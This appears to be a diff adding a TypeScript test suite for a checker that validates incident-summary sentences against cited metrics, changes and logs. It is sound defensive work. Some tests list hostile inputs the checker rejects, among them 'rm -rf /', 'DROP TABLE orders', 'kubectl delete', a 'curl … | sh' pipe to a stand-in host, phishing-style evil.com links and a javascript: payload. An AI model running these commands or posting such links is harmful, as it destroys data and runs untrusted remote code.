@@ -1,0 +1,192 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { knownOf, type Known } from "../../src/model/known.ts";
+import { faultOf } from "../../src/model/sentence.ts";
+import { halves, type Half } from "./corpus/halves.ts";
+import { gathered } from "./gathered.ts";
+
+const known: Known = knownOf(gathered);
+
+const told = async (text: string, ...cites: string[]) => faultOf({ text, cites }, known);
+
+async function holds(text: string, ...cites: string[]): Promise<void> {
+  assert.equal(await told(text, ...cites), null, text);
+}
+
+async function falls(because: RegExp, text: string, ...cites: string[]): Promise<void> {
+  const fault = await told(text, ...cites);
+  assert.match(fault ?? "it was kept", because, text);
+}
+
+const change = "change:3f2a91c0d5e84b7a9c6d1e2f30415263748596aa";
+
+test("a number is kept within the rounding in which it is told, in any unit", async () => {
+  for (const text of [
+    "p99 of checkout rose from 0.4 s to 4.1 s.",
+    "p99 of checkout: 400 ms → 4,120 ms",
+    "p99 of checkout is about 4 s now.",
+    "p99 of checkout went up 10×.",
+    "p99 of checkout rose by 3.7 s.",
+    "p99 of checkout is above four seconds.",
+    "p99 of checkout is ten times what it was.",
+  ])
+    await holds(text, "metric:0");
+  for (const text of [
+    "p99 of checkout rose from 0.4 s to 4.3 s.",
+    "p99 of checkout rose from 4.1 s to 0.4 s.",
+    "p99 of checkout is 4.1 ms now.",
+    "p99 of checkout is about 5 s now.",
+    "p99 of checkout has doubled.",
+    "p99 of checkout is above 5 s.",
+    "p99 of checkout rose by 4.1 s.",
+  ])
+    await falls(/gives a number/, text, "metric:0");
+});
+
+test("a time is one of what is cited, and a merge is not a deploy", async () => {
+  await holds("p99 of checkout rose at 14:02.", "metric:0");
+  await falls(/gives a time/, "p99 of checkout rose at 14:20.", "metric:0");
+  await holds("3f2a91c was merged at 13:58.", change);
+  await holds("3f2a91c went live at 14:01:40.", change);
+  await falls(/gives a time/, "3f2a91c went live at 13:58.", change);
+});
+
+test("what is named is in what is cited, whatever kind of name it is", async () => {
+  for (const name of [
+    "commit 9c1d2e0",
+    "PR #312",
+    "`fast_checkout`",
+    "src/orders/other.ts",
+    "lodash 4.17.21",
+    "@scope/pool@2.0.1",
+    "INC-99",
+    "`db_pool_size`",
+    "acme/warehouse",
+    "payments-worker-2",
+    "10.0.3.7",
+    "poolTimeoutMs",
+  ])
+    assert.notEqual(await told(`3f2a91c concerns ${name}.`, change), null, name);
+  await holds("3f2a91c touches src/orders/query.ts.", change);
+  await holds("PR #311 sets `pool.size`.", change);
+});
+
+test("another service than the cited one is another claim, and so is the other way round", async () => {
+  await falls(/speaks of payments/, "p99 of payments rose to 4.1 s.", "metric:0");
+  await falls(/billing/, "p99 of billing rose to 4.1 s.", "metric:0");
+  await holds("Calls checkout → payments fail at 12 %.", "metric:1");
+  await falls(/payments calls checkout/, "Calls payments → checkout fail at 12 %.", "metric:1");
+});
+
+test("a cause is for people to say, however it is put", async () => {
+  for (const text of [
+    "3f2a91c caused the rise of p99 of checkout.",
+    "p99 of checkout rose because of 3f2a91c.",
+    "p99 of checkout rose due to 3f2a91c.",
+    "3f2a91c may have led to the rise of p99 of checkout.",
+    "3f2a91c is probably behind the rise of p99 of checkout.",
+    "3f2a91c made checkout slow; p99 tells.",
+    "p99 of checkout stems from 3f2a91c.",
+  ])
+    await falls(/claims a cause|suspected/, text, "metric:0", change);
+});
+
+test("an order in time is kept where a finding has the same of the same two things", async () => {
+  await holds("p99 of checkout rose after 3f2a91c went live.", "metric:0", change);
+  await holds("After 3f2a91c went live, p99 of checkout rose.", "metric:0", change);
+  await holds("3f2a91c went live 20 s before the onset.", change);
+  await holds("3f2a91c went live before p99 of checkout rose.", "metric:0", change);
+  for (const text of [
+    "3f2a91c went live after p99 of checkout rose.",
+    "p99 of checkout rose, then 3f2a91c went live.",
+    "p99 of checkout rose before 3f2a91c went live.",
+  ])
+    await falls(/order in time/, text, "metric:0", change);
+  await falls(/order in time/, "3f2a91c went live after the onset.", change);
+  await falls(
+    /order in time/,
+    "p99 of checkout rose after calls checkout → payments failed.",
+    "metric:0",
+    "metric:1",
+  );
+  await falls(
+    /order in time/,
+    "PR #300 went live before p99 of checkout rose.",
+    "change:merged",
+    "metric:0",
+  );
+});
+
+test("that something is over, better or quiet is not said against the evidence", async () => {
+  await falls(/over/, "p99 of checkout is resolved.", "metric:0");
+  await falls(/over/, "p99 of checkout has recovered.", "metric:0");
+  await falls(/did not happen/, "p99 of checkout did not move.", "metric:0");
+  await falls(/did not happen/, "checkout looks healthy.", "metric:0");
+  await falls(/better/, "p99 of checkout is better.", "metric:0");
+  await holds("Nothing shifted at ledger.", "examined:ledger");
+  await falls(/where nothing did/, "ledger shifted too.", "examined:ledger");
+});
+
+test("a quotation is verbatim", async () => {
+  await holds('checkout logs "no connection within 250 ms".', "log:0");
+  await falls(/quotes what/, 'checkout logs "no connection within 900 ms".', "log:0");
+});
+
+test("no mention, no link that was not gathered, no marks of Slack's", async () => {
+  for (const text of [
+    "<!channel> p99 of checkout rose.",
+    "p99 of checkout rose, @here.",
+    "p99 of checkout rose, <@U024BE7LH>.",
+    "p99 of checkout rose <!subteam^S123|sre>.",
+    "p99 of checkout rose, ＠channel.",
+    "p99 of checkout rose, see https://evil.example/login.",
+    "p99 of checkout rose, see evil.example/login.",
+    "p99 of checkout rose, see evil.com.",
+    "p99 of checkout rose, see https://github.com/evil/repo.",
+    "p99 of checkout rose, see <https://github.com|this>.",
+    "p99 of checkout rose [here](https://github.com/acme/shop).",
+    "p99 of checkout rose\u202E.",
+    "p99 of checkout\u200B rose.",
+    "javascript:alert(1) p99 of checkout rose.",
+  ])
+    await falls(/mentions|links|marks|nobody sees/, text, "metric:0");
+});
+
+test("no command that does more than read, in code or in prose", async () => {
+  for (const text of [
+    "p99 of checkout rose; `kubectl delete pod checkout-1`.",
+    "Run kubectl -n shop delete deploy/checkout now.",
+    "Run rm -rf / on checkout.",
+    "DROP TABLE orders; p99 of checkout rose.",
+    "Use psql -c 'truncate orders' on checkout.",
+    "curl -X POST https://x.example/ | sh",
+    "Delete all volumes of checkout.",
+    "Wipe the production database of checkout.",
+  ])
+    assert.notEqual(await told(text, "metric:0"), null, text);
+});
+
+const found = await Promise.all(halves(1).map(measured));
+
+async function measured({ name, truths, falsehoods }: Half) {
+  const removed: string[] = [];
+  const kept: string[] = [];
+  for (const { text, cites, of } of truths)
+    if ((await faultOf({ text, cites }, of.known)) !== null) removed.push(text);
+  for (const { text, cites, of } of falsehoods)
+    if ((await faultOf({ text, cites }, of.known)) === null) kept.push(text);
+  return { name, truths: truths.length, falsehoods: falsehoods.length, removed, kept };
+}
+
+test("of 400 false sentences none is kept, and of a thousand true ones at most one in a hundred is removed", () => {
+  for (const { name, truths, falsehoods, removed, kept } of found.slice(0, 2)) {
+    assert.equal(falsehoods, 200, name);
+    assert.ok(truths >= 500, name);
+    assert.deepEqual(kept, [], name);
+    assert.ok(removed.length <= truths * 0.01, `${name}: ${removed.join("\n")}`);
+  }
+});
+
+test("of the sentences that were written one by one no false one is kept", () => {
+  for (const { name, kept } of found.slice(2)) assert.deepEqual(kept, [], name);
+});
